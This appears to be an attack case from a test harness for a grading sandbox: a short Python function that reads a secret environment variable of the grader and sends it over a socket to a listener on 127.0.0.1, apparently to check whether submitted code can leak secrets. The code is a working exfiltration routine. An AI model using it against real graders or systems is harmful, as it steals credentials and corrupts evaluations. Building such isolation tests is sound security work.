"""Send an environment variable of the grader to a listener on the
grader's 127.0.0.1."""
import os
import socket

WHEN = "first call"


def _attack():
    secret = os.environ.get(CTX["secret_name"], "<no secret in the environment>")
    try:
        s = socket.create_connection(("127.0.0.1", CTX["port"]), timeout=2)
        s.sendall(secret.encode())
        s.close()
        print("SENT", secret)
    except OSError as e:
        print("could not connect:", type(e).__name__, secret)
